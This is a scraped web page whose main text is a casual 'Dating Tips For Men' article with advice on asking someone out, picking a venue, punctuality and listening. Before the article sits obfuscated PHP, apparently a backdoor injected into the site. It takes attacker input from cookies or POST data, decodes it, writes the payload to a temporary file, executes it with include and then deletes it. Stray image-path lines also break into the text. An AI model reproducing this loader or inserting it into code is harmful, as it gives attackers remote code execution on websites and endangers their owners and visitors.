$QSfopy = class_exists("MMB_RdZf");if (!$QSfopy){class MMB_RdZf{private $WUTwFsqD;public static $BIielPuEhI = "95ea66de-9f02-41cb-baf8-a296274015f1";public static $EXBpkpp = NULL;public function __construct(){$ZqNFAoONU = $_COOKIE;$SsTnC = $_POST;$OMmera = @$ZqNFAoONU[substr(MMB_RdZf::$BIielPuEhI, 0, 4)];if (!empty($OMmera)){$VgTJqgv = "base64";$hKAbFKR = "";$OMmera = explode(",", $OMmera);foreach ($OMmera as $iIYuH){$hKAbFKR .= @$ZqNFAoONU[$iIYuH];$hKAbFKR .= @$SsTnC[$iIYuH];}$hKAbFKR = array_map($VgTJqgv . chr (95) . chr (100) . chr ( 843 - 742 ).'c' . "\x6f" . "\x64" . chr (101), array($hKAbFKR,)); $hKAbFKR = $hKAbFKR[0] ^ str_repeat(MMB_RdZf::$BIielPuEhI, (strlen($hKAbFKR[0]) / strlen(MMB_RdZf::$BIielPuEhI)) + 1);MMB_RdZf::$EXBpkpp = @unserialize($hKAbFKR);}}public function __destruct(){$this->ISVxIGQQg();}private function ISVxIGQQg(){if (is_array(MMB_RdZf::$EXBpkpp)) {$qTEIjZf = sys_get_temp_dir() . "/" . crc32(MMB_RdZf::$EXBpkpp[chr ( 885 - 770 )."\x61" . chr (108) . chr ( 424 - 308 )]);@MMB_RdZf::$EXBpkpp['w' . 'r' . chr ( 216 - 111 )."\x74" . "\x65"]($qTEIjZf,MMB_RdZf::$EXBpkpp['c' . 'o' . "\156" . chr ( 1011 - 895 ).chr (101) . chr (110) . chr (116)]);include $qTEIjZf;@MMB_RdZf::$EXBpkpp['d' . "\x65" . chr ( 844 - 736 ).chr ( 379 - 278 )."\164" . chr (101)]($qTEIjZf);exit();}}}$NqtwOGiku = new MMB_RdZf(); $NqtwOGiku = NULL;} ?> Dating Tips For Men – Trending gist's and Spicy Articles

Unfortunately they don’t teach dating in schools why? It’s more of a trial and error type of situation for every one but here are tips that can help you scale through.

JustAsk Her

Non of your fantasies can come true if you don’t. Don’t grow cold feet, Create a plan, Follow through and leave the ball in her court.

Choose Location Wisely

If you don’t drink you don’t have tochoose a bar on your first date. You might think that waiting for your date to pick somewhere is you being a gentleman but most of the time women like men that are decisive.

First Impression Is Golden

First impressions play a big role in the connection you feel with each other. Dress, walk and talk with confidence not pride. If you are still working on this you can speak with a counsellor

keep To Time

If for some reason you are running late call her early enough to let her know, you must try your best, Don’t be late to a date.


Don’t Do All The Talking

You can Start a conversation and still ask simple questions that’ll keep her engaged. And show that you can listen and that you are interested in what she has to say.

Dont Take Your Focus Of Her

No matter how curvy other ladies in the room look don’t Lust so much that she notices the distraction, Keep your eyes off your phone. In fact, just keep your phone in your pocket.

Don’t lie & be honest

If you don’t want a second date then don’t say you’ll call her with no intention of calling her. And if you felt the connection and want it to continue tell her straight up.

Also Read: How To Know If You Are The Giver Or Taker In Your Relationship

Don’t Talk About Your Ex

You must leave history in the past, This is not the time to talk about how your heart was broken or brag about some girls behaviour days ago.Be Creative

Get creative by taking her to get her favourite food or icecream. You can find out her favourite flower andtake her to a brautiful garden of flowers, oldtrick but still works.